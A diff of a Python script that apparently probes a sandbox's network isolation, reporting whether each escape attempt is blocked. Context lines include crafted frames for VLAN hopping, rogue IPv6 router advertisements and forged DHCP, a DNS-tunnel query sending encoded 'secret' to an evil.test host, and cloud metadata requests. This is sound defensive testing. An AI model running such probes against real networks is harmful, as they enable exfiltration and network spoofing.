@@ -13,14 +13,12 @@ def said(name, got_through, detail=""):
     print("BREACH" if got_through else "held", name, detail, flush=True)
 
 
-def exchange(address, port, send=b"GET / HTTP/1.0\r\n\r\n", source=None):
+def exchange(address, port, send=b"GET / HTTP/1.0\r\n\r\n"):
     """What comes back over TCP; empty when nothing does."""
     family = socket.AF_INET6 if ":" in address else socket.AF_INET
     with socket.socket(family, socket.SOCK_STREAM) as s:
         s.settimeout(PATIENCE)
         try:
-            if source:
-                s.bind((source, 0))
             s.connect((address, port))
             parts = send if isinstance(send, list) else [send]
             for part in parts:
@@ -82,8 +80,8 @@ def checksum(data):
     return ~total & 0xFFFF
 
 
-def ipv4(source, target, payload, protocol=17):
-    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0,
+def ipv4(source, target, payload):
+    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, socket.IPPROTO_UDP, 0,
                        socket.inet_aton(source), socket.inet_aton(target))
     return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
 
@@ -116,15 +114,15 @@ def frames():
     yield "a VLAN tag", ethernet(neighbour_mac, mac, 0x8100, struct.pack("!HH", 1, 0x0800) + plain(ip))
     yield "a VLAN tag of zero", ethernet(neighbour_mac, mac, 0x8100, struct.pack("!HH", 0, 0x0800) + plain(ip))
     yield "two VLAN tags", ethernet(neighbour_mac, mac, 0x88A8, struct.pack("!HHHH", 1, 0x8100, 1, 0x0800) + plain(ip))
-    head = lambda kind, payload: struct.pack("!IHBB16s16s", 6 << 28, len(payload), 58, 255,
-                                             socket.inet_pton(socket.AF_INET6, "fe80::1"),
-                                             socket.inet_pton(socket.AF_INET6, "ff02::1")) + payload
+    icmp6 = lambda payload: struct.pack("!IHBB16s16s", 6 << 28, len(payload), socket.IPPROTO_ICMPV6, 255,
+                                        socket.inet_pton(socket.AF_INET6, "fe80::1"),
+                                        socket.inet_pton(socket.AF_INET6, "ff02::1")) + payload
     advertise = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + MARK
     solicit = struct.pack("!BBHI16s", 135, 0, 0, 0, socket.inet_pton(socket.AF_INET6, "fe80::2")) + MARK
     neighbourly = struct.pack("!BBHI16s", 136, 0, 0, 0x60000000, socket.inet_pton(socket.AF_INET6, "fe80::1")) + MARK
     for name, payload in [("router advertisement", advertise), ("neighbour solicitation", solicit),
                           ("neighbour advertisement", neighbourly)]:
-        yield "IPv6: a " + name, ethernet("33:33:00:00:00:01", mac, 0x86DD, head(58, payload))
+        yield "IPv6: a " + name, ethernet("33:33:00:00:00:01", mac, 0x86DD, icmp6(payload))
     yield "DHCP: who gives me an address", ethernet(everybody, mac, 0x0800,
                                                     ipv4("0.0.0.0", "255.255.255.255", udp(68, 67, MARK * 20)))
     yield "DHCP: I give you an address", ethernet(everybody, mac, 0x0800,
@@ -197,7 +195,7 @@ def allow():
     said("a foreign name server", datagram(OUTSIDE, 53) == b"marked\n")
     said("a tunnel by names", has_answer(datagram(gateway, 53, question("c2VjcmV0.evil.test"))))
     said("ping", pinged(OUTSIDE))
-    said("the metadata service", exchange(METADATA, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n").find(b"outside") >= 0)
+    said("the metadata service", b"outside" in exchange(METADATA, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
     said("the LAN", b"outside" in exchange(LAN, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
 
 
